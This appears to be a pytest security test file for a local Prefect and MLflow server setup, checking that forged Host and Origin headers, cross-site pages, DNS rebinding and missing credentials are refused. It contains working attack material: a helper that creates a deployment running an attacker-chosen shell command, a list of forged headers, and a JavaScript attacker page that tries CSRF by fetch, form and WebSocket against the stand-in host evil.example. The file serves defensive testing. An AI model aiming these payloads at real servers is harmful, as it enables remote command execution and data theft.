"""Pages of other origins, foreign names and programs without the key attack `make serve`, and get nothing.

Each attack has its control: the same requests from the right place do what the attacker wants, so they would be seen.
"""

import http.client
import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from prefect_server import until
from serving import Serve
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

EVIL = "evil.example"
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)


@pytest.fixture(scope="module")
def serving(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serve]:
    serving = Serve(tmp_path_factory.mktemp("attacked") / "workspace")
    serving.start()
    yield serving
    serving.close()


def send(port: int, path: str, headers: dict[str, str], content: Any = None) -> tuple[int, str, dict[str, str]]:
    """Status, body and headers of the answer to a GET, or to a POST of `content`; `Host` may be forged."""
    body = None if content is None else json.dumps(content)
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request("GET" if body is None else "POST", path, body, headers)
        answer = connection.getresponse()
        return answer.status, answer.read().decode(), {key.lower(): value for key, value in answer.getheaders()}
    finally:
        connection.close()


def take_over(port: int, headers: dict[str, str], mark: Path) -> list[int]:
    """What the attack did: a deployment whose command is the attacker's, and a run of it; the answers' statuses."""
    headers = {"Content-Type": "application/json", **headers}
    flow = send(port, "/api/flows/", headers, {"name": "attack"})
    deployment = {
        "name": "attack",
        "flow_id": json.loads(flow[1])["id"] if flow[0] < 300 else "00000000-0000-0000-0000-000000000000",
        "work_pool_name": "local",
        "entrypoint": "toy.py:hold",
        "job_variables": {"command": f"touch {mark}"},
    }
    made = send(port, "/api/deployments/", headers, deployment)
    number = json.loads(made[1])["id"] if made[0] < 300 else "any"
    started = send(port, f"/api/deployments/{number}/create_flow_run", headers, {})
    return [flow[0], made[0], started[0]]


def attackers(serving: Serve, port: int) -> dict[str, dict[str, str]]:
    """The headers of each attacker; even the right key doesn't help a page of another origin."""
    right = {"Authorization": f"Basic {serving.basic()}"}
    own = f"127.0.0.1:{port}"
    return {
        "foreign name": {"Host": EVIL, **right},
        "foreign name, own port": {"Host": f"{EVIL}:{port}", **right},
        "own name, other port": {"Host": f"127.0.0.1:{port + 1}", **right},
        "no name": {"Host": "", **right},
        "foreign origin": {"Origin": f"https://{EVIL}", **right},
        "origin on another port": {"Origin": "http://127.0.0.1:9", **right},
        "origin by another name": {"Host": own, "Origin": f"http://localhost:{port}", **right},
        "origin with TLS": {"Origin": f"https://{own}", **right},
        "origin that starts alike": {"Origin": f"http://{own}.{EVIL}", **right},
        "sandboxed page": {"Origin": "null", **right},
        "image of another site": {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", **right},
        "frame of another port": {
            "Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe", **right,
        },
    }  # fmt: skip


def test_prefect_runs_nobody_elses_command(serving: Serve, tmp_path: Path) -> None:
    mark = tmp_path / "taken-over"
    for name, headers in attackers(serving, serving.port).items():
        assert take_over(serving.port, headers, mark) == [403] * 3, name
        status, body, answered = send(serving.port, "/api/work_pools/local", headers)
        assert (status, "access-control-allow-origin" in answered) == (403, False), name
        assert "base_job_template" not in body
    without = {
        "no key": {},
        "wrong key": {"Authorization": "Basic YWRtaW46YWRtaW4="},
        "no scheme": {"Authorization": "x"},
    }
    for name, headers in without.items():
        assert take_over(serving.port, headers, mark) == [401] * 3, name
        assert send(serving.port, "/api/work_pools/local", headers)[0] == 401
    assert [flow["name"] for flow in serving.ask("flows/filter", {})] == ["hold"]

    assert take_over(serving.port, {"Authorization": f"Basic {serving.basic()}"}, mark) == [201] * 3
    until(mark.exists, what="the command: without it this test would notice nothing")


def test_a_page_is_answered_on_its_own_address_and_links_to_it_work(serving: Serve) -> None:
    for port in (serving.port, serving.mlflow_port):
        link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
        assert send(port, "/", link)[0] in (200, 307)  # Prefect leads a person on to its newer page
        for name in ("127.0.0.1", "localhost"):
            own = {"Host": f"{name}:{port}", "Origin": f"http://{name}:{port}", "Sec-Fetch-Site": "same-origin"}
            assert send(port, "/", own)[0] == 200
    refused = send(serving.port, "/", {"Host": EVIL})[1]
    assert f"http://127.0.0.1:{serving.port}" in refused  # whoever typed a wrong address is told the right one


def test_web_sockets_need_the_own_origin_and_the_key(serving: Serve) -> None:
    address = f"ws://127.0.0.1:{serving.port}/api/events/out"

    def greeting(token: str | None, origin: str | None = None) -> Any:
        with connect(address, origin=origin, subprotocols=["prefect"], proxy=None) as socket:  # type: ignore[arg-type, list-item]
            socket.send(json.dumps({"type": "auth", "token": token}))
            return json.loads(socket.recv(10))

    own = f"http://127.0.0.1:{serving.port}"
    assert greeting(serving.key(), own) == {"type": "auth_success"}
    for origin in (f"https://{EVIL}", "http://127.0.0.1:9", "null"):
        with pytest.raises(InvalidStatus, match="403"):
            greeting(serving.key(), origin)
    for token in (None, "admin:admin"):
        with pytest.raises(Exception, match="1008"):
            greeting(token)


EXPERIMENTS = "/api/2.0/mlflow/experiments"


def test_mlflow_neither_tells_nor_does_anything_for_others(serving: Serve) -> None:
    port, json_type = serving.mlflow_port, {"Content-Type": "application/json"}
    for prefix in ("/api", "/ajax-api"):
        path = EXPERIMENTS.replace("/api", prefix, 1)
        for name, headers in attackers(serving, port).items():
            assert send(port, f"{path}/create", {**json_type, **headers}, {"name": f"stolen {name}"})[0] == 403, name
            status, body, answered = send(port, f"{path}/search?max_results=9", headers)
            assert (status, "access-control-allow-origin" in answered) == (403, False), name
            assert "Default" not in body
    assert send(port, f"{EXPERIMENTS}/create", json_type, {"name": "own"})[0] == 200
    found = json.loads(send(port, f"{EXPERIMENTS}/search?max_results=9", {})[1])["experiments"]
    assert {experiment["name"] for experiment in found} == {"Default", "own"}


PAGE = """<!doctype html><title>attack</title><script>
const [victims, results] = [%s, {}]
const told = (name, what) => { results[name] = String(what) }
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("late"), 5000))])
async function attack({name, read, write, body, socket, frame}) {
  for (const [kind, options] of Object.entries({
    plain: {}, json: {method: "POST", headers: {"Content-Type": "application/json"}, body},
    simple: {method: "POST", headers: {"Content-Type": "text/plain"}, body},
  })) {
    try {
      const answer = await within(fetch(kind == "plain" ? read : write, options))
      told(`${name} ${kind}`, `${answer.status} ${(await answer.text()).slice(0, 40)}`)
    } catch (error) { told(`${name} ${kind}`, "nothing") }
  }
  try { await within(fetch(write, {method: "POST", mode: "no-cors", body})) } catch (error) {}
  await within(new Promise((done) => {
    const opened = new WebSocket(socket, "prefect")
    opened.onopen = () => { told(`${name} socket`, "open"); done() }
    opened.onerror = () => { told(`${name} socket`, "nothing"); done() }
  })).catch(() => {})
  await within(new Promise((done) => {
    const image = new Image()
    image.onload = () => { told(`${name} image`, `${image.width} wide`); done() }
    image.onerror = () => { told(`${name} image`, "nothing"); done() }
    image.src = frame
  })).catch(() => {})
  const target = Object.assign(document.createElement("iframe"), {name: `frame-${name}`})
  document.body.append(target)
  const form = Object.assign(document.createElement("form"),
    {method: "POST", action: write, target: target.name, enctype: "text/plain"})
  const field = Object.assign(document.createElement("input"), {name: body.slice(0, -1) + ',"x":"', value: '"}'})
  form.append(field); document.body.append(form); form.submit()
  await new Promise((done) => { target.onload = done; setTimeout(done, 3000) })
}
addEventListener("load", async () => {
  for (const victim of victims) await attack(victim)
  await fetch("/report", {method: "POST", body: JSON.stringify(results)})
})
</script><body></body>"""


class Careless(BaseHTTPRequestHandler):
    """A victim as Prefect's server was: every origin may read and write. The control of the attacking page."""

    received: list[str]

    def do_OPTIONS(self) -> None:
        self._answer("")

    def do_GET(self) -> None:
        self._answer("secret")

    def do_POST(self) -> None:
        self.received.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
        self._answer("done")

    def _answer(self, body: str) -> None:
        self.send_response(200)
        for name in ("origin", "headers", "methods"):
            self.send_header(f"Access-Control-Allow-{name}", "*")
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Attacking(Careless):
    """Serves the page, and takes what it reports."""

    page: str

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode())


def serve_in_thread(handler: type[BaseHTTPRequestHandler]) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium")
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", EVIL])
def test_a_page_in_a_browser_gets_nothing(serving: Serve, tmp_path: Path, name: str) -> None:
    """`evil.example` leads to 127.0.0.1 in this browser, also on the servers' own ports: DNS rebinding."""
    careless = type("Victim", (Careless,), {"received": []})
    control = serve_in_thread(careless)

    def victim(label: str, host: str, port: int, read: str, write: str, body: str, frame: str) -> dict[str, str]:
        base = f"http://{host}:{port}"
        socket = f"ws://{host}:{port}/api/events/out"
        return {
            "name": label, "read": base + read, "write": base + write, "body": body, "socket": socket,
            "frame": base + frame,
        }  # fmt: skip

    victims = [victim("control", "127.0.0.1", control.server_port, "/", "/", '{"name":"x"}', "/")]
    for host in ("127.0.0.1", EVIL):
        prefect = ("/api/admin/version", "/api/flows/", '{"name":"attack"}', "/ico/favicon-32x32.png")
        mlflow = (
            f"{EXPERIMENTS}/search?max_results=9", f"{EXPERIMENTS}/create", '{"name":"attack"}',
            "/static-files/favicon.ico",
        )  # fmt: skip
        victims.append(victim(f"prefect at {host}", host, serving.port, *prefect))
        victims.append(victim(f"mlflow at {host}", host, serving.mlflow_port, *mlflow))
    attacking = type("Attacker", (Attacking,), {"received": [], "page": PAGE % json.dumps(victims)})
    attacker = serve_in_thread(attacking)

    flows = [flow["name"] for flow in serving.ask("flows/filter", {})]
    assert CHROMIUM is not None
    command = [
        CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
        f"--user-data-dir={tmp_path / 'profile'}", f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        f"http://{name}:{attacker.server_port}/",
    ]  # fmt: skip
    with (tmp_path / "browser.log").open("w") as log:
        browser = subprocess.Popen(
            command, stdout=log, stderr=log, env=os.environ | {"HOME": str(tmp_path)}, start_new_session=True
        )
    try:
        until(lambda: bool(attacking.received), 150, f"the page's report; {(tmp_path / 'browser.log').read_text()}")
    finally:
        browser.terminate()
        browser.wait(30)
        control.shutdown()
        attacker.shutdown()
    got = json.loads(attacking.received[0])
    assert {got[f"control {kind}"] for kind in ("plain", "json", "simple")} == {"200 secret", "200 done"}
    assert len(careless.received) >= 4  # with the form's
    gains = {attack: gain for attack, gain in got.items() if not attack.startswith("control") and gain != "nothing"}
    assert gains == {}
    assert len(got) == 5 + 5 * 4
    assert [flow["name"] for flow in serving.ask("flows/filter", {})] == flows
    found = send(serving.mlflow_port, f"{EXPERIMENTS}/search?max_results=9", {})[1]
    assert "attack" not in found


@pytest.mark.parametrize("program", ["flows.pipeline", "flows.server.setup", "flows.server.automations"])
def test_our_own_programs_say_in_one_line_that_the_key_is_missing(serving: Serve, program: str) -> None:
    address = f"http://127.0.0.1:{serving.port}/api"
    environment = {**serving.environment, "PREFECT_API_URL": address, "PREFECT_API_AUTH_STRING": "admin:wrong"}
    for setting, told in (
        ({}, "asks for its key"),
        ({"PREFECT_API_URL": "http://127.0.0.1:9/api"}, "does not answer"),
    ):
        done = subprocess.run(
            [sys.executable, "-m", program],
            cwd=serving.folder,
            env=environment | setting,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert done.returncode == 1
        assert done.stderr.count("\n") == 1, done.stderr
        assert done.stderr.startswith("error: Prefect at http://127.0.0.1:")
        assert told in done.stderr
